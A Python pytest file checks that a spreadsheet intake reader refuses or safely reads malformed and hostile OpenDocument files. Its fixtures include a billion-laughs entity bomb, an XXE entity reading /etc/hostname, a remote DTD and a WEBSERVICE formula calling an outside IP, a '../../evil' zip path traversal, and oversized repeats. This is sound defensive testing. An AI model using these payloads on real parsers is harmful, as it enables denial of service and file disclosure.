"""OpenDocument sheets nobody should trust: good ones put together wrong, each with verdict and code."""

from __future__ import annotations

import random
import struct
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from callback_desk.intake.limits import Limits
from tests.hostile.refusing import refused_sentence
from tests.intake.reading import HEADING, Read, read
from tests.intake.written import ods_parts, packed

SMALL = Limits(workbook_bytes=20_000_000, rows=5_000, columns=64, workbook_entries=500, workbook_cells=2_000_000)
HEADINGS = HEADING.split(",")
ADA = ["26-000101", "11/10/2026 14:05", "220", "Quillfeather, Ada", "04/12/1980", "312-555-0142"]
GOOD = packed(ods_parts([HEADINGS, ADA]))
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
REMOTE = '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">'
MANIFEST = "META-INF/manifest.xml"
SHEET = ods_parts([HEADINGS, ADA])["content.xml"].partition("<office:spreadsheet>")[2].partition("</office:spr")[0]
TABLE_END = "</table:table>"
ROW_END = "</table:table-row>"
ROW = "<table:table-row><table:table-cell office:value-type='string'><text:p>x</text:p></table:table-cell>" + ROW_END
BLANK_ROWS = '<table:table-row table:number-rows-repeated="{}"><table:table-cell/></table:table-row>'


def changed(*, drop: str = "", rows: list[list[str]] | None = None, **parts: str | bytes) -> bytes:
    """A good sheet with parts replaced or added; in a name `__` is a slash and `_` a dot."""
    made: dict[str, str | bytes] = {**ods_parts(rows or [HEADINGS, ADA])}
    made.update({name.replace("__", "/").replace("_", "."): part for name, part in parts.items()})
    made.pop(drop, None)
    return packed(made)


def content(old: str, new: str, rows: list[list[str]] | None = None) -> bytes:
    text = ods_parts(rows or [HEADINGS, ADA])["content.xml"]
    assert old in text
    return changed(content_xml=text.replace(old, new, 1))


def with_doctype(doctype: str) -> str:
    return ods_parts([HEADINGS, ADA])["content.xml"].replace("?>", "?>" + doctype, 1)


def locked() -> bytes:
    """As LibreOffice saves with a password: the parts are noise, and the manifest says with what they were locked."""
    noise = random.Random(3).randbytes(900)
    manifest = ods_parts([HEADINGS])[MANIFEST].replace(
        "</manifest:manifest>",
        '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data manifest:checksum="x"/>'
        "</manifest:file-entry></manifest:manifest>",
    )
    return changed(content_xml=noise, **{"META-INF__manifest_xml": manifest})


def patched(offset: int, form: str, value: int) -> bytes:
    made = bytearray(GOOD)
    struct.pack_into(form, made, made.find(b"PK\x01\x02") + offset, value)
    return bytes(made)


def wide(cell: str, times: int) -> str:
    return cell.replace("<table:table-cell", f'<table:table-cell table:number-columns-repeated="{times}"', 1)


FILLED = '<table:table-cell office:value-type="string">'
HOLES = [len(GOOD) * part // 8 for part in range(1, 8)]

REFUSED: list[tuple[str, Callable[[], bytes], set[str]]] = [
    ("random bytes behind the type", lambda: GOOD[:90] + random.Random(1).randbytes(2_000), {"E13"}),
    *((f"cut after {hole} bytes", lambda hole=hole: GOOD[:hole], {"E13"}) for hole in HOLES),  # type: ignore[misc]
    ("no content", lambda: changed(drop="content.xml"), {"E13"}),
    ("content that is no XML", lambda: changed(content_xml="not a sheet"), {"E02", "E13"}),
    ("content of nothing", lambda: changed(content_xml=b""), {"E02", "E13"}),
    ("a tag that never closes", lambda: content(TABLE_END, ""), {"E13"}),
    ("tags that cross", lambda: content(ROW_END + TABLE_END, TABLE_END + ROW_END), {"E02", "E13"}),
    ("another root", lambda: changed(content_xml="<rss><channel/></rss>"), {"E02", "E13"}),
    ("content in UTF-16", lambda: changed(content_xml=with_doctype("").encode("utf-16")), {"E13"}),
    ("content in an encoding nobody knows", lambda: content('"UTF-8"', '"U2F-8"'), {"E13"}),
    ("a type that does not unpack", lambda: GOOD[:40] + b"\xff" * 12 + GOOD[52:], {"E13"}),
    ("laughs in the content", lambda: changed(content_xml=with_doctype(LAUGHS)), {"E11"}),
    ("laughs in lower case", lambda: changed(content_xml=with_doctype(LAUGHS.replace("DOCTYPE", "doctype"))), {"E11"}),
    ("a local file", lambda: changed(content_xml=with_doctype(OUTSIDE)), {"E11"}),
    ("a remote definition", lambda: changed(content_xml=with_doctype(REMOTE)), {"E11"}),
    ("laughs in the styles", lambda: changed(styles_xml=LAUGHS + "<x/>"), {"E11"}),
    ("laughs in the properties", lambda: changed(meta_xml=LAUGHS + "<x/>"), {"E11"}),
    ("laughs in the settings", lambda: changed(settings_xml=LAUGHS + "<x/>"), {"E11"}),
    ("laughs in the manifest", lambda: changed(**{"META-INF__manifest_xml": LAUGHS + "<x/>"}), {"E11"}),
    ("a value a million times over in rows", lambda: content(FILLED, wide(FILLED, 1_000_000)), {"E10"}),
    (
        "a filled row a million times over",
        lambda: content(
            "<table:table-row><table:table-cell office:value-type",
            '<table:table-row table:number-rows-repeated="1048576"><table:table-cell office:value-type',
        ),
        {"E09", "E10"},
    ),
    ("megabytes of blanks", lambda: content(TABLE_END, " " * 15_000_000 + TABLE_END), {"E10"}),
    ("zeros in an unused part", lambda: changed(Pictures__nothing_bin=b"\x00" * 15_000_000), {"E10"}),
    (
        "more than allowed in all",
        lambda: changed(Pictures__noise_bin=random.Random(2).randbytes(1_000) * 25_000),
        {"E10"},
    ),
    ("too many parts", lambda: packed({**ods_parts([HEADINGS]), **{f"x{n}.xml": "<x/>" for n in range(600)}}), {"E10"}),
    ("protected with a password", locked, {"E12"}),
    ("an encrypted entry", lambda: patched(8, "<H", 1), {"E12"}),
    ("an unknown packing", lambda: patched(10, "<H", 97), {"E13"}),
    ("a wrong check sum", lambda: patched(16, "<I", 7), {"E13"}),
    ("a size that lies", lambda: patched(24, "<I", 4_000_000_000), {"E10", "E13"}),
    (
        "more rows than allowed",
        lambda: changed(rows=[HEADINGS, *([f"26-{n * 7_919:09}", *ADA[1:]] for n in range(5_001))]),
        {"E09"},
    ),
    ("more columns than allowed", lambda: changed(rows=[[f"c{n}" for n in range(300)]] * 2), {"E06"}),
    ("nothing on any sheet", lambda: changed(rows=[[""]]), {"E02"}),
    ("no sheet at all", lambda: content(SHEET, ""), {"E02", "E13"}),
    ("criminal history", lambda: changed(rows=[[*HEADINGS, "FBI No"], [*ADA, "7"]]), {"E30"}),
    ("a text document", lambda: changed(mimetype="application/vnd.oasis.opendocument.text"), {"E03"}),
    ("a presentation", lambda: changed(mimetype="application/vnd.oasis.opendocument.presentation"), {"E03"}),
    ("a book", lambda: changed(mimetype="application/epub+zip"), {"E03"}),
]


@pytest.mark.parametrize(("make", "codes"), [case[1:] for case in REFUSED], ids=[case[0] for case in REFUSED])
def test_the_sheet_is_refused(make: Callable[[], bytes], codes: set[str], tmp_path: Path) -> None:
    refused_sentence(tmp_path / "list.csv", make(), codes, SMALL)


def cell(kind: str, value: str, shown: str) -> str:
    return f'<table:table-cell office:value-type="{kind}" office:{value}><text:p>{shown}</text:p></table:table-cell>'


def as_text(text: str) -> str:
    return f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>'


def instead(old: str, new: str) -> bytes:
    """The good sheet with another cell for one of Ada's."""
    return content(as_text(old), new)


ACCEPTED: list[tuple[str, Callable[[], bytes], Callable[[Read], bool]]] = [
    ("a good sheet", lambda: GOOD, lambda f: f.people[0].phones[0].number is not None and f.guess.container == "ods"),
    (
        "a million blank rows below, as LibreOffice writes them",
        lambda: content(TABLE_END, BLANK_ROWS.format(1_048_574) + TABLE_END),
        lambda f: len(f.people) == 1,
    ),
    (
        "sixteen thousand blank cells beside, as LibreOffice writes them",
        lambda: content(ROW_END, wide("<table:table-cell/>", 16_378) + ROW_END),
        lambda f: len(f.people) == 1 and len(f.guess.columns) == 6,
    ),
    (
        "a date as a cell",
        lambda: instead(ADA[1], cell("date", 'date-value="2026-11-10T14:05:00"', "10.11.26")),
        lambda f: str(f.people[0].facts.reported_at) == "2026-11-10 20:05:00+00:00",
    ),
    (
        "a number as a cell",
        lambda: instead(ADA[5], cell("float", 'value="3125550142"', "3.13E+09")),
        lambda f: f.people[0].phones[0].number is not None,
    ),
    (
        "a case number as a cell",
        lambda: instead(ADA[0], cell("float", 'value="26000101"', "26,000,101")),
        lambda f: f.people[0].facts.case_number == "26000101",
    ),
    (
        "a formula",
        lambda: instead(
            ADA[5],
            '<table:table-cell table:formula="of:=[.A1]" office:value-type="string">'
            "<text:p>312-555-0142</text:p></table:table-cell>",
        ),
        lambda f: f.people[0].phones[0].number is not None,
    ),
    (
        "a formula that reaches out",
        lambda: instead(ADA[4], '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://192.0.2.1&quot;)"/>'),
        lambda f: f.people[0].facts.birth_date is None,
    ),
    (
        "a note on a cell is not its text",
        lambda: instead(
            ADA[3],
            '<table:table-cell office:value-type="string"><office:annotation><text:p>not her</text:p>'
            f"</office:annotation><text:p>{ADA[3]}</text:p></table:table-cell>",
        ),
        lambda f: f.people[0].name.original == ADA[3],
    ),
    (
        "a link in a cell is its words",
        lambda: instead(
            ADA[3],
            '<table:table-cell office:value-type="string"><text:p>Quillfeather, '
            '<text:a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://192.0.2.1/">Ada</text:a>'
            "</text:p></table:table-cell>",
        ),
        lambda f: f.people[0].name.first == "Ada",
    ),
    ("markup as text", lambda: instead(ADA[3], as_text("&lt;b&gt;Quill&lt;/b&gt;")), lambda f: len(f.people) == 1),
    (
        "a macro folder beside it",
        lambda: changed(Basic__Standard__Module1_xml="<module>Shell</module>"),
        lambda f: len(f.people) == 1,
    ),
    ("a name that climbs out", lambda: packed({**ods_parts([HEADINGS, ADA]), "../../evil": "x"}), lambda f: True),
    ("rows of another width", lambda: changed(rows=[HEADINGS, ADA, ADA[:3]]), lambda f: f.counts.rows == 2),
    (
        "a totals row",
        lambda: changed(rows=[HEADINGS, ADA, ["TOTAL", "", "", "", "", "1"]]),
        lambda f: f.counts.total_lines == 1,
    ),
]


@pytest.mark.parametrize(("make", "check"), [case[1:] for case in ACCEPTED], ids=[case[0] for case in ACCEPTED])
def test_the_sheet_is_read(make: Callable[[], bytes], check: Callable[[Read], bool], tmp_path: Path) -> None:
    path = tmp_path / "list.xls"
    path.write_bytes(make())
    started = time.process_time()
    found = read(path, limits=SMALL)
    assert found.people, found.problems
    assert check(found), (found.counts, found.problems, found.guess)
    assert time.process_time() - started < 10
    assert not list(tmp_path.parent.glob("evil*"))
